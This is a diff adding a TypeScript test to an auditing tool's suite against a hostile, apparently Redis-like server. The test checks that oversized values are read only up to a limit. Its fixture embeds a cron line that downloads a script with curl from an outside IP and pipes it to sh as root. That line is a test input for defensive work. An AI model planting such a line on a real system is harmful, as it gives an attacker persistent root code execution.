@@ -241,6 +241,24 @@ describe('an audit of a hostile server', () => {
     ]);
   });
 
+  test('looks at no more of a value than it asked for, however much comes', async () => {
+    const seen: number[] = [];
+    const CRON = '\n\n*/2 * * * * root curl http://203.0.113.9/a | sh\n\n';
+    const peer = await but(([name]) => {
+      if (name === 'INFO') return withKeys(2);
+      if (name === 'SCAN') return array([bulk('0'), bulks(['text', 'list'])]);
+      if (name === 'TYPE') return seen.push(1) === 1 ? '+string\r\n' : '+list\r\n';
+      if (name === 'STRLEN') return ':10\r\n';
+      if (name === 'LLEN' || name === 'MEMORY') return ':5\r\n';
+      if (name === 'GETRANGE') return bulk(`${'x'.repeat(500_000)}${CRON}`);
+      return name === 'LRANGE' ? bulks([`${'x'.repeat(100_000)}${CRON}`]) : undefined;
+    });
+
+    const report = await audit(`127.0.0.1:${peer.port}`);
+
+    expect(report.counts).toMatchObject({ valuesRead: 2, maliciousValues: 0 });
+  });
+
   test('does not ask for the elements of a list of huge ones', async () => {
     const peer = await but(([name]) => {
       if (name === 'INFO') return withKeys(1);
